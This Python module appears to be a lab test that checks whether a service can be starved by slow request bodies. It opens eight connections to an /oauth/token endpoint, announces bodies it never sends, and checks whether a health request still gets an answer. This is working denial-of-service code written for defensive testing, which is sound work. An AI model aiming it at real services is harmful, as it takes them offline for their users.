"""Announces more bodies than the service has threads, and sends none of them."""

import http.client
from contextlib import ExitStack

from lab.world import World

STORY = __doc__
LAYERS = ("request_body",)
#: Twice the threads of the lab's server.
REQUESTS = 8
PATIENCE_SECONDS = 3.0
FORM = "application/x-www-form-urlencoded"


def attack(world: World) -> bool:
    """Whether somebody else is kept waiting, or the service waits for the bodies without end."""
    with ExitStack() as stack:
        stalled = [stall(world, stack) for _ in range(REQUESTS)]
        somebody = connect(world, stack)
        somebody.request("GET", "/healthz")
        return not all(is_answered(connection) for connection in (somebody, *stalled))


def stall(world: World, stack: ExitStack) -> http.client.HTTPSConnection:
    connection = connect(world, stack)
    connection.putrequest("POST", "/oauth/token")
    connection.putheader("Content-Type", FORM)
    connection.putheader("Content-Length", "10")
    connection.endheaders()
    return connection


def is_answered(connection: http.client.HTTPSConnection) -> bool:
    try:
        return bool(connection.getresponse().status)
    except TimeoutError:
        return False


def connect(world: World, stack: ExitStack) -> http.client.HTTPSConnection:
    connection = http.client.HTTPSConnection(
        world.host, world.port, context=world.context, timeout=PATIENCE_SECONDS
    )
    stack.callback(connection.close)
    return connection
